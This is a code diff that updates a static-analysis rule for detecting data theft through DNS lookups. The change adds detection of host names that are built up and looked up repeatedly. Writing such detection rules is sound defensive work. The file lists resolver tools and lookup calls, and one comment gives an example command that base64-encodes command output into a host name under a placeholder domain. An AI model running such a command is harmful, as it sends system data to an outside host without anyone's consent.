@@ -1,11 +1,11 @@
 import { namesOf } from '../matching/lists.ts';
-import { callsTo } from '../matching/names.ts';
+import { callsTo, isRepeated } from '../matching/names.ts';
 import { HOLE, TAINT, textsOf } from '../program/value.ts';
 import type { Hit } from '../rule.ts';
 import { defineRule } from '../rule.ts';
 
 const LOOKUPS = namesOf(
-  'socket.gethostbyname socket.gethostbyname_ex socket.getaddrinfo dns.* dns.promises.*',
+  'socket.gethostbyname socket.gethostbyname_ex socket.getaddrinfo dns.* dns.promises.* dns.resolver.*',
 );
 
 const RESOLVERS = namesOf('dig nslookup host drill kdig delv ping ping6 getent');
@@ -13,21 +13,22 @@ const RESOLVERS = namesOf('dig nslookup host drill kdig delv ping ping6 getent')
 const BUILT = new RegExp(`${HOLE}[^ ]{0,200}\\.[a-z]{2,}\\.?$`);
 
 /**
- * A secret or a value of the environment put into a name that is looked up.
+ * A secret or a value of the environment put into a name that is looked up; looking up one name after the other that is
+ * put together.
  *
  * Left alone: Looking up names that are written in the program.
  */
 export default defineRule({
   id: 'ANY-DNS-EXFIL',
-  version: 2,
+  version: 3,
   title: { en: 'Sends data in host names', ja: 'ホスト名による持ち出し' },
   severity: 'High',
   languages: ['Python', 'JavaScript', 'Bash'],
   cwe: [200],
   attack: ['T1048.003'],
   forbids: {
-    en: 'A secret or a value of the environment put into a name that is looked up.',
-    ja: '秘密や環境変数の値を含む名前の問い合わせ。',
+    en: 'A secret or a value of the environment put into a name that is looked up; looking up one name after the other that is put together.',
+    ja: '秘密や環境変数の値を含む名前の問い合わせ。組み立てた名前を次々に問い合わせること。',
   },
   allows: {
     en: 'Looking up names that are written in the program.',
@@ -40,8 +41,11 @@ export default defineRule({
   remedy: { en: 'Leave it out.', ja: '取り除いてください。' },
   needs: [LOOKUPS, RESOLVERS],
   *check(program): Iterable<Hit> {
-    for (const { args, span } of callsTo(program, LOOKUPS)) {
-      if (args.some(({ taint }) => (taint & (TAINT.Environment | TAINT.Secret)) !== 0)) yield { span };
+    for (const { args, span, context } of callsTo(program, LOOKUPS)) {
+      const secret = args.some(({ taint }) => (taint & (TAINT.Environment | TAINT.Secret)) !== 0);
+      const piecewise =
+        isRepeated(program, { context }) && args.some((arg) => textsOf(arg).some((name) => BUILT.test(name)));
+      if (secret || piecewise) yield { span };
     }
     // The output of commands as a part of a name: `dig "$(id | base64).example.org"`.
     for (const { name, args, substitutions, span } of program.commands) {
